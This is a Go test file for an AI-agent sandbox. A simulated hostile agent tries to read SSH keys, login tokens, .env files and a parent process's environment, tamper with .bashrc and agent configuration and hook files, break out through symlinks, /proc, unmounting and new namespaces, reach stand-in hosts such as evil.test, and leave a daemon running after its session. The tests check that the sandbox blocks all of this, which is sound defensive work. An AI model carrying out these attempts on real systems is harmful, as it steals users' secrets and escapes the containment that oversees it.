package cli_test

import (
	"bufio"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/socrates-cli/socrates/internal/llm/cli"
	"github.com/socrates-cli/socrates/internal/llm/trouble"
	"github.com/socrates-cli/socrates/internal/sandbox"
)

// prey is what a hostile agent goes for.
type prey struct {
	Project, Copy, Home, Store string
	Allowed, Other             string // ports of this machine; its endpoint is at the first
}

// hostile is an agent that answers with what it could do, first with what it should be able to. Asked again, it fails.
func hostile(raw string) {
	var at prey
	json.Unmarshal([]byte(raw), &at)
	in := bufio.NewScanner(os.Stdin)
	answer := func(id int, result string) { fmt.Printf(`{"jsonrpc":"2.0","id":%d,"result":%s}`+"\n", id, result) }
	for id := 1; in.Scan(); id++ {
		switch id {
		case 1:
			answer(id, `{"protocolVersion":1}`)
		case 2:
			answer(id, `{"sessionId":"s1"}`)
		case 3:
			fmt.Println(strings.TrimPrefix(piece("did: "+strings.Join(at.attack(), " ")), "< "))
			answer(id, `{"stopReason":"end_turn"}`)
		default:
			os.Exit(7)
		}
	}
}

func (at prey) attack() (did []string) {
	write := func(path string) func() error {
		return func() error { return os.WriteFile(path, []byte("evil"), 0o600) }
	}
	read := func(path string) func() error { return func() error { _, err := os.ReadFile(path); return err } }
	list := func(path string) func() error {
		return func() error {
			all, err := os.ReadDir(path)
			if err == nil && len(all) == 0 {
				err = errors.New("empty")
			}
			return err
		}
	}
	dial := func(network, to string) func() error {
		return func() error {
			c, err := net.DialTimeout(network, to, 5*time.Second)
			if err != nil {
				return err
			}
			defer c.Close()
			c.SetDeadline(time.Now().Add(5 * time.Second))
			io.WriteString(c, "x\n")
			_, err = c.Read(make([]byte, 1))
			return err
		}
	}
	own, _ := os.Getwd()
	parent := os.Getppid()
	for _, t := range []struct {
		name string
		do   func() error
	}{
		{"read-copy", read(filepath.Join(own, "a.txt"))},
		{"write-temp", write(filepath.Join(os.TempDir(), "x"))},
		{"connect-endpoint", dial("tcp", "127.0.0.1:"+at.Allowed)},
		{"fork", func() error { return daemon(at.Allowed) }},

		{"write-project", write(filepath.Join(at.Project, "evil.txt"))},
		{"change-project", write(filepath.Join(at.Project, "README.md"))},
		{"read-project", read(filepath.Join(at.Project, "README.md"))},
		{"list-project", list(at.Project)},
		{"read-env", read(filepath.Join(at.Project, ".env"))},
		{"write-copy", write(filepath.Join(own, "evil.txt"))},
		{"change-copy", write(filepath.Join(own, "a.txt"))},
		{"chmod-copy", func() error { return os.Chmod(filepath.Join(own, "a.txt"), 0o777) }},
		{"remove-copy", func() error { return os.Remove(filepath.Join(own, "a.txt")) }},
		{"rename-copy", func() error { return os.Rename(own, own+"2") }},
		{"read-copy-env", read(filepath.Join(own, ".env"))},
		{"write-home", write(filepath.Join(at.Home, "evil.txt"))},
		{"link-home", func() error { return os.Link(filepath.Join(own, "a.txt"), filepath.Join(at.Home, "evil.txt")) }},
		{"change-shell", write(filepath.Join(at.Home, ".bashrc"))},
		{"read-ssh", read(filepath.Join(at.Home, ".ssh", "id_ed25519"))},
		{"list-ssh", list(filepath.Join(at.Home, ".ssh"))},
		{"read-letter", read(filepath.Join(at.Home, "Documents", "letter"))},
		{"list-home", func() error {
			all, err := os.ReadDir(at.Home)
			if err == nil && !slices.ContainsFunc(all, func(e os.DirEntry) bool { return e.Name() == "Documents" }) {
				err = os.ErrNotExist
			}
			return err
		}},
		{"read-login", read(filepath.Join(at.Home, ".codex", "auth.json"))},
		{"read-store", read(filepath.Join(at.Store, "socrates.db"))},
		{"list-store", list(at.Store)},
		{"by-link", func() error {
			link := filepath.Join(os.TempDir(), "link")
			return errors.Join(os.Symlink(filepath.Join(at.Home, ".ssh", "id_ed25519"), link), read(link)())
		}},
		{"by-proc", read(fmt.Sprintf("/proc/%d/root%s", parent, filepath.Join(at.Home, ".ssh", "id_ed25519")))},
		{"read-environ", read(fmt.Sprintf("/proc/%d/environ", parent))},
		{"unmount", func() error { return syscall.Unmount(filepath.Join(at.Home, ".ssh"), syscall.MNT_DETACH) }},
		{"new-namespace", func() error {
			c := exec.Command("/bin/sh", "-c", "umount "+filepath.Join(at.Home, ".ssh")+" || mount -t tmpfs x "+at.Home)
			c.SysProcAttr = &syscall.SysProcAttr{Cloneflags: syscall.CLONE_NEWUSER | syscall.CLONE_NEWNS}
			return c.Run()
		}},
		{"connect-other", dial("tcp", "127.0.0.1:"+at.Other)},
		{"connect-other-6", dial("tcp", "[::1]:"+at.Other)},
		{"connect-address", dial("tcp", "192.0.2.1:443")},
		{"connect-name", dial("tcp", "evil.test:443")},
		{"send-packet", func() error {
			c, err := net.Dial("udp", "192.0.2.1:53")
			if err == nil {
				_, err = c.Write([]byte("x"))
			}
			return err
		}},
		{"ask-name", func() error { _, err := net.LookupHost("secret.evil.test"); return err }},
		{"unix-socket", func() error {
			_, err := syscall.Socket(syscall.AF_UNIX, syscall.SOCK_STREAM, 0)
			return err
		}},
	} {
		if t.do() == nil {
			did = append(did, t.name)
		}
	}
	return did
}

// daemon leaves a process in a session of its own, under another environment, that holds a connection.
func daemon(port string) error {
	self, err := os.Executable()
	if err != nil {
		return err
	}
	c := exec.Command(self)
	c.Env, c.SysProcAttr = []string{"SEAT_DAEMON=" + port}, &syscall.SysProcAttr{Setsid: true}
	out, err := c.StdoutPipe()
	if err == nil {
		err = c.Start()
	}
	if err == nil {
		_, err = io.ReadFull(out, make([]byte, 1)) // it has been heard
	}
	return err
}

// daemons are the processes that daemon left.
func daemons(port string) (out []int) {
	all, _ := filepath.Glob("/proc/[0-9]*/environ")
	for _, file := range all {
		if raw, err := os.ReadFile(file); err == nil && strings.HasPrefix(string(raw), "SEAT_DAEMON="+port) {
			pid, _ := strconv.Atoi(filepath.Base(filepath.Dir(file)))
			out = append(out, pid)
		}
	}
	return out
}

func haunt(port string) {
	c, err := net.Dial("tcp", "127.0.0.1:"+port)
	if err == nil {
		io.WriteString(c, "daemon\n")
		if _, err := io.ReadFull(c, make([]byte, 1)); err == nil {
			os.Stdout.WriteString("x")
		}
	}
	forever()
}

// A program at the table can do no harm, whatever it tries: it works in a copy that the system keeps as it is, does not see
// the person's secrets, reaches its endpoint and nothing else, and ends with all that it started.
func TestHostileAgent(t *testing.T) {
	if err := sandbox.Cells(); err != nil {
		t.Skip(err)
	}
	top := t.TempDir()
	at := prey{Project: filepath.Join(top, "home", "project"), Copy: filepath.Join(top, "copy"), Home: filepath.Join(top, "home"), Store: filepath.Join(top, "store")}
	for _, name := range []string{"home/project/README.md", "home/project/.env", "copy/a.txt", "copy/.env", "home/.ssh/id_ed25519", "home/.codex/auth.json", "home/.bashrc", "home/Documents/letter", "store/socrates.db"} {
		file := filepath.Join(top, name)
		if err := errors.Join(os.MkdirAll(filepath.Dir(file), 0o700), os.WriteFile(file, []byte("before"), 0o600)); err != nil {
			t.Fatal(err)
		}
	}
	t.Setenv("HOME", at.Home)
	left := make(chan bool, 1)
	serve := func() (port string) {
		l, err := net.Listen("tcp", "127.0.0.1:0")
		if err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { l.Close() })
		go func() {
			for {
				c, err := l.Accept()
				if err != nil {
					return
				}
				go func() {
					defer c.Close()
					line, _ := bufio.NewReader(c).ReadString('\n')
					io.WriteString(c, "x")
					if line == "daemon\n" { // stays until it is ended
						c.Read(make([]byte, 1))
						left <- true
					}
				}()
			}
		}()
		_, port, _ = net.SplitHostPort(l.Addr().String())
		return port
	}
	at.Allowed, at.Other = serve(), serve()
	raw, _ := json.Marshal(at)
	self, _ := os.Executable()
	hold := &cli.Hold{Cell: true, Project: at.Project, Deny: func(dir string) []string {
		return []string{filepath.Join(at.Home, ".ssh"), filepath.Join(at.Home, ".codex"), at.Store, filepath.Join(dir, ".env")}
	}, Cover: func(_ *exec.Cmd, shown []string) (cover, read []string) { return []string{at.Home}, shown }}
	m := cli.Agent([]string{self}).New(cli.Options{Hold: hold, Env: []string{"SEAT_HOSTILE=" + string(raw), "ANTHROPIC_BASE_URL=http://127.0.0.1:" + at.Allowed}})
	if !m.Info().Held {
		t.Error("it is not told to be held")
	}
	req := hi("one")
	req.Dir = at.Copy
	h := listen(t.Context(), m, req)
	if want := "did: read-copy write-temp connect-endpoint fork"; h.err != nil || h.end.Message.Text() != want {
		t.Fatalf("%v; got %q, want %q", h.err, h.text, want)
	}
	again := next(req, h.end, "again")
	again.Dir = at.Copy
	if e := trouble.As(listen(t.Context(), m, again).err); e == nil || e.Kind != trouble.Crash || !strings.Contains(e.Message, "the sandbox blocked evil.test, secret.evil.test (if it needs one of them: socrates config set programs.") {
		t.Errorf("got %v", e)
	}
	m.(io.Closer).Close()
	<-left
	gone(t, daemons(at.Allowed)...)
	filepath.WalkDir(top, func(path string, d os.DirEntry, err error) error {
		if d.IsDir() || err != nil {
			return err
		}
		if text, err := os.ReadFile(path); err != nil || string(text) != "before" {
			t.Errorf("%s: %q %v", path, text, err)
		}
		return nil
	})
}

// A program may renew its login in its own folder. What is there that it obeys when the person starts it next stays as it is.
func TestASeatCannotSteerItsProgram(t *testing.T) {
	if err := sandbox.Cells(); err != nil {
		t.Skip(err)
	}
	for _, name := range []string{"claude", "codex", "grok", "kimi", "pi", "qwen"} {
		home := t.TempDir()
		obeyed := []string{"settings.json", "settings.local.json", "config.toml", "config.json", "config.yaml", "mcp.json", "mcp-config.json", "hooks.json", "models.json", "keybindings.json", "hooks/start.sh", "plugins/a/plugin.json", "plugin/a.js",
			"commands/a.md", "agents/a.md", "agent/a.md", "skills/a/SKILL.md", "rules/a.md", "extensions/a.js", "prompts/a.md", "tools/a.js", "AGENTS.md", "CLAUDE.md", "GEMINI.md", "QWEN.md", "bin/a", ".env"}
		for _, file := range obeyed {
			path := filepath.Join(home, file)
			if err := errors.Join(os.MkdirAll(filepath.Dir(path), 0o700), os.WriteFile(path, nil, 0o600)); err != nil {
				t.Fatal(err)
			}
		}
		listen(t.Context(), acting(t, name, script(t, "! meddle "+home, "! exit 7"), cli.Options{Home: home, Hold: &cli.Hold{Cell: true}}), hi(""))
		var found []string
		filepath.WalkDir(home, func(path string, d os.DirEntry, err error) error {
			if rel, _ := filepath.Rel(home, path); err == nil && !d.IsDir() {
				text, _ := os.ReadFile(path)
				found = append(found, rel+string(text))
			}
			return nil
		})
		for _, file := range obeyed {
			if !slices.Contains(found, file) {
				t.Errorf("%s: %s was changed", name, file)
			}
		}
		if len(found) != len(obeyed)+1 || !slices.Contains(found, "loginrenewed") {
			t.Errorf("%s: its folder holds %q", name, found)
		}
	}
}

// TestClaudeKeepsItsServers: the file beside claude's folder that names servers and trusted folders is read and not written.
func TestClaudeKeepsItsServers(t *testing.T) {
	if err := sandbox.Cells(); err != nil {
		t.Skip(err)
	}
	home := t.TempDir()
	t.Setenv("HOME", home)
	t.Setenv("CLAUDE_CONFIG_DIR", "")
	file := filepath.Join(home, ".claude.json")
	if err := errors.Join(os.Mkdir(filepath.Join(home, ".claude"), 0o700), os.WriteFile(file, []byte("{}"), 0o600)); err != nil {
		t.Fatal(err)
	}
	listen(t.Context(), acting(t, "claude", script(t, "! meddle "+home, "! exit 7"), cli.Options{Hold: &cli.Hold{Cell: true}}), hi(""))
	if text, err := os.ReadFile(file); err != nil || string(text) != "{}" {
		t.Errorf("%q %v", text, err)
	}
}

// TestOrdinaryUser runs it once more as somebody who is not root.
func TestOrdinaryUser(t *testing.T) {
	if os.Getuid() != 0 {
		t.Skip("it is not root who runs the tests")
	}
	dir, err := os.MkdirTemp("", "seat-user-")
	if err != nil {
		t.Fatal(err)
	}
	defer os.RemoveAll(dir)
	const nobody = 65534
	binary, temp := filepath.Join(dir, "tests"), filepath.Join(dir, "temp")
	self, err := os.ReadFile("/proc/self/exe")
	if err := errors.Join(err, os.Chmod(dir, 0o755), os.WriteFile(binary, self, 0o755), os.Mkdir(temp, 0o700), os.Chown(temp, nobody, nobody)); err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command(binary, "-test.v", "-test.run", "^(TestHostileAgent|TestASeatCannotSteerItsProgram)$")
	cmd.Dir, cmd.Env = dir, append(os.Environ(), "TMPDIR="+temp, "HOME="+temp)
	cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: nobody, Gid: nobody}}
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Errorf("%v\n%s", err, out)
	}
}
